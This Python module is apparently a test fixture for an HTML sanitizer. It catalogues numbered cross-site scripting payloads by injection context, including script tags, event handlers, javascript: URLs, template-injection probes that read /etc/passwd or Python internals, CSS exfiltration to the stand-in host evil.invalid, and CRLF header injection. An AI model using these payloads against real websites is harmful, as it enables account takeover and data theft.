# ruff: noqa: E501 - payloads as they stand
"""Scripts that a page of the web may put into its texts and addresses, by the place at which each would break out.

`№` stands for the number of the payload: `ran(№)` tells the test which of them ran. A payload that makes elements marks
them `id=p№`, so that one is found that stands in a page although nothing ran."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Payload:
    """One script in a text: `kind`, the class it belongs to; `text`, what goes into the field."""

    number: int
    kind: str
    text: str


_TAGS: Final = (
    "<script id=p№>ran(№)</script>", "<SCRIPT>ran(№)</SCRIPT>", "<script/x>ran(№)</script>", "<script\n>ran(№)</script\n>", "<script\x0c>ran(№)</script>",
    "<script src=//evil.invalid/№.js></script>", "<script src=data:text/javascript,ran(№)></script>", "<script type=module>ran(№)</script>",
    "<script type=module src='data:text/javascript,ran(№)'></script>", "<script async src=/%2f%2fevil.invalid/№.js></script>", "<<script>ran(№)//<</script>",
    "<scr<script>ipt>ran(№)</scr</script>ipt>", "<script>ran(№)", "<script>/*</script><script>*/ran(№)</script>", "<script nonce=''>ran(№)</script>",
    "<script charset=utf-7>+AHIAYQBu-(№)</script>", "<script>window['ra'+'n'](№)</script>", "<script type=text/ecmascript>ran(№)</script>",
    "<script type='importmap'>{\"imports\":{\"x\":\"//evil.invalid/№\"}}</script>", "<script type=speculationrules>{\"prerender\":[{\"source\":\"list\",\"urls\":[\"//evil.invalid/№\"]}]}</script>",
    "＜script＞ran(№)＜/script＞", "&lt;script&gt;ran(№)&lt;/script&gt;", "&amp;lt;script&amp;gt;ran(№)&amp;lt;/script&amp;gt;", "%3Cscript%3Eran(№)%3C/script%3E",
    "%253Cscript%253Eran(№)%253C%252Fscript%253E", "\\u003cscript\\u003eran(№)\\u003c/script\\u003e", "\\x3cscript\\x3eran(№)\\x3c/script\\x3e", "&#60;script&#62;ran(№)&#60;/script&#62;",
)  # fmt: skip
_HANDLERS: Final = (
    "<img id=p№ src=x onerror=ran(№)>", "<img src=x onerror='ran(№)'//", "<IMG SRC=x ONERROR=ran(№)>", "<img/src=x/onerror=ran(№)>", "<img src=x\tonerror\n=\nran(№)>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=ran(№)>", "<img srcset=x onerror=ran(№)>", "<img src=x onerror=&#114;an(№)>", "<img src=x onerror=\\u0072an(№)>",
    "<body onload=ran(№)>", "<body onpageshow=ran(№)>", "<body onhashchange=ran(№)>", "<body onscroll=ran(№)><br><br>", "<input autofocus onfocus=ran(№)>", "<select autofocus onfocus=ran(№)></select>",
    "<textarea autofocus onfocus=ran(№)></textarea>", "<button autofocus onfocus=ran(№)>", "<div tabindex=1 autofocus onfocus=ran(№)>x</div>", "<a href=# autofocus onfocus=ran(№)>x</a>",
    "<details open ontoggle=ran(№)>", "<details open ontoggle=ran(№)><summary>x</summary></details>", "<dialog open oncancel=ran(№)>x</dialog>", "<video src=x onerror=ran(№)></video>",
    "<video><source onerror=ran(№)></video>", "<audio src=x onerror=ran(№)>", "<audio src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA= onloadeddata=ran(№)>",
    "<object data=x onerror=ran(№)>", "<embed src=x onload=ran(№)>", "<iframe onload=ran(№)></iframe>", "<iframe src=about:blank onload=ran(№)>", "<link rel=stylesheet href=x onerror=ran(№)>",
    "<link rel=preload as=image href=x onerror=ran(№)>", "<style onload=ran(№)></style>", "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=ran(№)>x</b>",
    "<b style='transition:color 1ms' ontransitionend=ran(№) id=p№>x</b>", "<marquee onstart=ran(№)>x</marquee>", "<marquee loop=1 width=0 onfinish=ran(№)>x</marquee>",
    "<p id=p№ onmouseover=ran(№)>move over me", "<p onpointerenter=ran(№)>point at me", "<p onclick=ran(№)>click me", "<p oncopy=ran(№)>copy me", "<p onauxclick=ran(№)>me too",
    "<x onclick=ran(№)>click</x>", "<x contenteditable onbeforeinput=ran(№)>type</x>", "<p onwheel=ran(№) style=position:fixed;inset:0>x", "<meter onmouseover=ran(№)>0</meter>",
    "<keygen autofocus onfocus=ran(№)>", "<isindex type=image src=x onerror=ran(№)>", "<frameset onload=ran(№)>", "<table background=x onerror=ran(№)><tr><td>x", "<menu onclick=ran(№)>x",
    "<p oncontentvisibilityautostatechange=ran(№) style=content-visibility:auto>x", "<div popover id=p№ onbeforetoggle=ran(№)>x</div><button popovertarget=p№>x</button>",
)  # fmt: skip
_FOREIGN: Final = (
    "<svg id=p№ onload=ran(№)>", "<svg/onload=ran(№)>", "<svg><script>ran(№)</script></svg>", "<svg><script>ran&lpar;№&rpar;</script>", "<svg><script href=data:,ran(№) />", "<svg><script xlink:href=data:,ran(№)></script>",
    "<svg><animate onbegin=ran(№) attributeName=x dur=1s>", "<svg><set onbegin=ran(№) attributename=x>", "<svg><animatetransform onbegin=ran(№)>", "<svg><a><animate attributeName=href values=javascript:ran(№) /><text x=20 y=20>x</text></a>",
    "<svg><a xlink:href=javascript:ran(№)><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='ran(№)'/>#x />", "<svg><foreignObject><iframe srcdoc='<script>parent.ran(№)</script>'>",
    "<svg><image href=x onerror=ran(№)>", "<svg><style><img src=x onerror=ran(№)></style></svg>", "<svg><desc><img src=x onerror=ran(№)></desc></svg>", "<svg><title><img src=x onerror=ran(№)></title></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>ran(№)</handler></svg>", "<math><a xlink:href=javascript:ran(№)>x</a></math>", "<math href=javascript:ran(№)>x</math>",
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:ran(№)>x</maction></math>", "<math><mtext><table><mglyph><style><img src=x onerror=ran(№)>", "<math><annotation-xml encoding=text/html><img src=x onerror=ran(№)>",
    "<xml id=p№><img src=x onerror=ran(№)></xml>", "<?xml-stylesheet href='javascript:ran(№)'?>", "<!DOCTYPE x [<!ENTITY e '<script>ran(№)</script>'>]>&e;", "<svg><discard onbegin=ran(№)>",
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:ran(№)", "JaVaScRiPt:ran(№)", "java\tscript:ran(№)", "java\nscript:ran(№)", "java\rscript:ran(№)", "\x01javascript:ran(№)", " javascript:ran(№)", "\u00a0javascript:ran(№)",
    "\ufeffjavascript:ran(№)", "javascript\t:ran(№)", "javascript:\tran(№)", "javascript&colon;ran(№)", "javascript&#58;ran(№)", "java&Tab;script:ran(№)", "&#106;avascript:ran(№)", "&#x6A;avascript:ran(№)",
    "javascript:/*--></title>*/ran(№)", "javascript://news.test/%0aran(№)", "javascript://news.test/\u2028ran(№)", "javascript:void(ran(№))", "javascript:'<script>parent.ran(№)</script>'",
    "feed:javascript:ran(№)", "view-source:javascript:ran(№)", "data:text/html,<script>opener.ran(№)</script>", "data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKDEpPC9zY3JpcHQ+", "DaTa:text/html,<script>ran(№)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(№)'/>", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>ran(№)</script>", "data:,ran(№)", "vbscript:ran(№)", "VBSCRIPT:MsgBox(№)",
    "livescript:ran(№)", "mocha:ran(№)", "blob:javascript:ran(№)", "filesystem:http://x/temporary/№", "jar:http://news.test!/№", "file:///etc/passwd", "about:blank#<script>ran(№)</script>", "//evil.invalid/№", "\\\\evil.invalid\\№",
    "/\\evil.invalid/№", "https:evil.invalid/№", "http:///evil.invalid/№", "https://news.test@evil.invalid/№", "https://news.test/№\" onclick=\"ran(№)", "https://news.test/№' onmouseover='ran(№)", "https://news.test/№ onclick=ran(№)",
    "https://news.test/№><script>ran(№)</script>", "https://news.test/№\"><svg onload=ran(№)>", "https://news.test/№`onclick=ran(№)`", "https://news.test/№#javascript:ran(№)", "https://news.test/?next=javascript:ran(№)", "https://news.test/№&quot;onclick=ran(№)",
    "https://news.test/№%22%3E%3Cscript%3Eran(№)%3C/script%3E", "https://news.test/№\u202egpj.exe", "https://news.test/{{7*7}}/№", "https://news.test/№</a><script>ran(№)</script>", "https://news.test/№</script><script>ran(№)</script>",
    "http://[::1]/№\"onload=ran(№)", "https://news.test/№.jpg\"onerror=\"ran(№)", "https://news.test/№.jpg) ; background:url(javascript:ran(№)", "https://news.test/№\\\" onclick=ran(№) \\\"",
)  # fmt: skip
"""Addresses, each a whole field; the first lot are none of the web's and must never become a link."""
_TEMPLATES: Final = (
    "{{ran(№)}}", "{{7*№}}", "{% for x in (1,) %}ran(№){% endfor %}", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ '<script>ran(№)</script>'|safe }}", "{{ self._TemplateReference__context }}", "{% raw %}{% endraw %}{{№}}",
    "{% include '/etc/passwd' %}", "{{ request.environ }}", "{# №", "#}{{№}}", "{%", "{{", "{{constructor.constructor('ran(№)')()}}", "{{$on.constructor('ran(№)')()}}", "{{_c.constructor('ran(№)')()}}", "<b v-html=\"'<img src=x onerror=ran(№)>'\">x</b>",
    "<b v-on:click=ran(№)>x</b>", "<b @click=ran(№)>x</b>", "<b x-data x-init=ran(№)>x</b>", "<b ng-app ng-init=\"constructor.constructor('ran(№)')()\">x</b>", "<b hx-on:load=ran(№) hx-get=//evil.invalid/№ hx-trigger=load>x</b>", "<b data-bind=\"text: ran(№)\">x</b>",
    "${ran(№)}", "`${ran(№)}`", "#{ran(№)}", "<%= ran(№) %>", "<#assign x=№>${x}", "[[${ran(№)}]]", "*{ran(№)}", "@(ran(№))", "$!{№}", "{{{ran(№)}}}", "{{= ran(№) }}", "%(ran)s %s {0.__class__} №", "$(ran №) `ran №`", "<b is=vue:script>ran(№)</b>",
)  # fmt: skip
_BREAKERS: Final = (
    "\"><script>ran(№)</script>", "'><script>ran(№)</script>", "\" onmouseover=\"ran(№)", "' onmouseover='ran(№)", "\" autofocus onfocus=ran(№) x=\"", "' autofocus onfocus=ran(№) x='", " onmouseover=ran(№) ", "` onmouseover=ran(№) `", "\"/onclick=ran(№)/\"",
    "x\" style=\"animation-name:k\" onanimationstart=\"ran(№)", "--><script>ran(№)</script>", "--!><script>ran(№)</script>", "<!--><script>ran(№)</script>-->", "<!-- --!><img src=x onerror=ran(№)> -->", "<!--<script>ran(№)//-->", "<![CDATA[<img src=x onerror=ran(№)>]]>",
    "]]><script>ran(№)</script>", "]]>\"><svg onload=ran(№)>", "</title><script>ran(№)</script>", "</textarea><script>ran(№)</script>", "</noscript><script>ran(№)</script>", "</style><script>ran(№)</script>", "</script><script>ran(№)</script>", "</template><script>ran(№)</script>",
    "</xmp><script>ran(№)</script>", "</noembed><script>ran(№)</script>", "</noframes><script>ran(№)</script>", "</iframe><script>ran(№)</script>", "</select><script>ran(№)</script>", "</svg><script>ran(№)</script>", "</math><script>ran(№)</script>", "</plaintext><script>ran(№)</script>",
    "</a><script>ran(№)</script>", "</option></datalist><script>ran(№)</script>", "</mark><script>ran(№)</script>", "<noscript><p title=\"</noscript><img src=x onerror=ran(№)>\">", "<style><style /><img src=x onerror=ran(№)>", "<title><img title=\"</title><img src=x onerror=ran(№)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=ran(№)>\">", "<xmp><p title=\"</xmp><svg/onload=ran(№)>\">", "<plaintext>№", "<!ELEMENT x>ran(№)<!-->", "</<script>ran(№)</script>", "<%<!--'%><script>ran(№)</script -->", "<// style=x onmouseover=ran(№)>", "</p id=p№ onclick=ran(№)>",
)  # fmt: skip
_JSON: Final = (
    "\\\"};ran(№);//", "\";ran(№);//", "';ran(№);//", "\\';ran(№);//", "\\\\\";ran(№);//", "</script><img src=x onerror=ran(№)>", "<!--<script>", "\u2028ran(№)//", "\u2029ran(№)//", "\"-ran(№)-\"", "'-ran(№)-'", "`-ran(№)-`", "\\u0022);ran(№);//", "});ran(№);//",
    "*/ran(№);/*", "\n<!--\nran(№)\n-->", "{\"__proto__\":{\"x\":\"ran(№)\"}}", "{\"href\":\"javascript:ran(№)\",\"label\":\"x\"}", "{\"href\":\"javascript:ran(№)\",\"label\":\"<b>x</b>\",\"title\":\"x\"}", "[{\"href\":\"data:text/html,<script>ran(№)</script>\",\"label\":\"x\"}]",
    "{\"$base64\":true,\"encoded\":\"PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=\"}", "http://news.test/\" onclick=ran(№) x=\"", "http://news.test/<script>ran(№)</script>", "{\"img_src\":\"x\\\" onerror=ran(№)\"}", "{\"html\":\"<img src=x onerror=ran(№)>\"}",
)  # fmt: skip
_STYLES: Final = (
    "<style>*{background:url(javascript:ran(№))}</style>", "<style>@import 'javascript:ran(№)';</style>", "<style>@import url(//evil.invalid/№.css);</style>", "<p id=p№ style=background:url(//evil.invalid/№)>x", "<p style=\"width:expression(ran(№))\">x", "<p style=-moz-binding:url(//evil.invalid/№#x)>x",
    "<p style=behavior:url(//evil.invalid/№.htc)>x", "<link rel=stylesheet href=//evil.invalid/№.css>", "<link rel=stylesheet href=data:,*%7bx:expression(ran(№))%7d>", "<style>body{display:none}</style>", "<style>input[value^=a]{background:url(//evil.invalid/№)}</style>", "<style>@font-face{font-family:x;src:url(//evil.invalid/№)}*{font-family:x}</style>",
    "<div style=position:fixed;inset:0;background:red;z-index:9999 id=p№><a href=//evil.invalid/№>x</a></div>", "red;background:url(//evil.invalid/№)", "\"}</style><script>ran(№)</script>", "}*{background:url(//evil.invalid/№)}", "\\3c script\\3e ran(№)",
)  # fmt: skip
_FRAMES: Final = (
    "<meta http-equiv=refresh content='0;url=javascript:ran(№)'>", "<meta http-equiv=refresh content='0;url=//evil.invalid/№'>", "<meta http-equiv=refresh content='0;data:text/html,<script>ran(№)</script>'>", "<meta http-equiv=set-cookie content=a=№>", "<meta http-equiv=content-security-policy content=\"script-src *\">", "<meta charset=utf-7>",
    "<meta name=referrer content=unsafe-url>", "<base href=//evil.invalid/>", "<base href=javascript:/№/>", "<base target=_blank>", "<iframe id=p№ srcdoc='<script>parent.ran(№)</script>'></iframe>", "<iframe srcdoc=&lt;script&gt;parent.ran(№)&lt;/script&gt;>", "<iframe src=javascript:parent.ran(№)>", "<iframe src=//evil.invalid/№>",
    "<iframe src=data:text/html,<script>parent.ran(№)</script>>", "<frame src=javascript:ran(№)>", "<object data=javascript:ran(№)>", "<object data=data:text/html,<script>parent.ran(№)</script>></object>", "<object type=text/html data=//evil.invalid/№>", "<embed src=javascript:ran(№)>", "<embed src=data:image/svg+xml,<svg/onload=ran(№)>>", "<applet code=№ codebase=//evil.invalid/>",
    "<portal src=javascript:ran(№)>", "<form id=p№ action=javascript:ran(№)><input type=submit value=send></form>", "<form action=//evil.invalid/№><button>send</button></form>", "<form><button formaction=javascript:ran(№)>send</button></form>", "<form><input type=image formaction=javascript:ran(№)>", "<button form=f formaction=//evil.invalid/№>x</button>", "<isindex action=javascript:ran(№)>",
    "<a id=p№ href=javascript:ran(№)>read on</a>", "<a href='java&#10;script:ran(№)'>read on</a>", "<a href=//evil.invalid/№ ping=//evil.invalid/ping>read on</a>", "<area href=javascript:ran(№) shape=default>", "<map name=m><area href=javascript:ran(№)></map><img usemap=#m>", "<link rel=import href=//evil.invalid/№>", "<link rel=dns-prefetch href=//№.evil.invalid>",
    "<link rel=icon href=//evil.invalid/№>", "<link rel=manifest href=//evil.invalid/№>", "<input type=hidden name=q value=№><img src=//evil.invalid/№>", "<img src=//evil.invalid/№>", "<img srcset='//evil.invalid/№ 1x'>", "<picture><source srcset=//evil.invalid/№><img></picture>", "<video poster=//evil.invalid/№ src=//evil.invalid/v№>", "<track src=//evil.invalid/№ default>",
)  # fmt: skip
_ENCODINGS: Final = (
    "+ADw-script+AD4-ran(№)+ADw-/script+AD4-", "\ufeff<script>ran(№)</script>", "<scr\x00ipt>ran(№)</scr\x00ipt>", "\x00<script>ran(№)</script>", "<\x00script>ran(№)</script>", "<img src=x one\x00rror=ran(№)>", "\x1b$B<script>ran(№)</script>\x1b(B", "\x1b(J\\\";ran(№);//", "\u202e>tpircs/<)№(nar>tpircs<",
    "\u2066<script>ran(№)</script>\u2069", "\u202a\u202b\u202c\u202d\u202eran(№)", "ran(№)\u200f\u200e", "<\u200bscript>ran(№)</script>", "\u3008script\u3009ran(№)\u3008/script\u3009", "\uff1cimg src=x onerror=ran(№)\uff1e", "‹script›ran(№)‹/script›", "\u02bcscript\u02beran(№)", "<ſcript>ran(№)</ſcript>", "<İmg src=x onerror=ran(№)>", "ﬁ<ſvg/onload=ran(№)>",
    "\x3cscript\x3eran(№)\x3c/script\x3e", "<script>\u2028ran(№)</script>", "GIF89a/*<script>*/ran(№)//</script>", "%PDF-1.4<script>ran(№)</script>", "<html><script>ran(№)</script>", "<?php echo '<script>ran(№)</script>' ?>", "\x08\x08\x08<script>ran(№)</script>", "\r\nContent-Type: text/html\r\n\r\n<script>ran(№)</script>", "\r\n\r\n<script>ran(№)</script>",
    "%0d%0aSet-Cookie:a=№", "%00<script>ran(№)</script>", "\U000e0041<script>ran(№)</script>", "e\u0301\u0301\u0301<script>ran(№)</script>", "\U0001f4a3<svg onload=ran(№)>", "\u0600\u0601<svg onload=ran(№)>", "&#x3c;svg onload=ran(№)&#x3e;", "&LT;svg onload=ran(№)&GT;", "&lt;svg onload=ran(№)>", "&<svg onload=ran(№)>", "&#0;<svg onload=ran(№)>",
)  # fmt: skip
_MUTATIONS: Final = (
    "<noscript><style></noscript><img src=x onerror=ran(№)>", "<svg></p><style><a id=\"</style><img src=x onerror=ran(№)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran(№)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(№)>", "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=ran(№)>",
    "<a href=\"`<img src=x onerror=ran(№)>`\">x", "<p title=\"&lt;/p>&lt;img src=x onerror=ran(№)>\">x", "<table><td><a title=\"</table><img src=x onerror=ran(№)>\">", "<select><template><img src=x onerror=ran(№)></template></select>", "<svg><![CDATA[><img src=x onerror=ran(№)>]]></svg>", "<svg><p><style><g title=\"</style><img src=x onerror=ran(№)>\">",
    "<math><mi><annotation-xml encoding='text/html'><!--</annotation-xml><img src=x onerror=ran(№)>-->", "<div id=p№><template shadowrootmode=open><script>ran(№)</script></template></div>", "<option><style></option></select><img src=x onerror=ran(№)></style>", "<listing>&lt;img src=x onerror=ran(№)&gt;</listing>", "<font color=\"<img src=x onerror=ran(№)>\">x</font>",
    "<a name=ran><a id=ran name=toString href=javascript:ran(№)>", "<form id=document><input name=cookie value=№></form>", "<img name=getElementById src=x onerror=ran(№)>", "<iframe name=window srcdoc=x onload=ran(№)>", "<b hidden=until-found onbeforematch=ran(№)>x</b>", "<search><form action=javascript:ran(№)>", "<mark>x</mark><script>ran(№)</script><mark>",
    "\x02<script>ran(№)</script>\x03", "<b>x</b>\x02mark\x03<img src=x onerror=ran(№)>", "<ins><script>ran(№)</script></ins>", "<del onmouseover=ran(№)>x</del>", "[-<script>ran(№)</script>-]{+<img src=x onerror=ran(№)>+}",
)  # fmt: skip

KINDS: Final = {
    "tag": _TAGS,
    "handler": _HANDLERS,
    "svg or mathml": _FOREIGN,
    "address": ADDRESSES,
    "template": _TEMPLATES,
    "breaks out": _BREAKERS,
    "json": _JSON,
    "style": _STYLES,
    "frame, form, refresh": _FRAMES,
    "encoding": _ENCODINGS,
    "mutation": _MUTATIONS,
}


def payloads() -> list[Payload]:
    """All of them, numbered from 1."""
    texts = [(kind, text) for kind, shelf in KINDS.items() for text in shelf]
    return [Payload(number, kind, text.replace("№", str(number))) for number, (kind, text) in enumerate(texts, 1)]
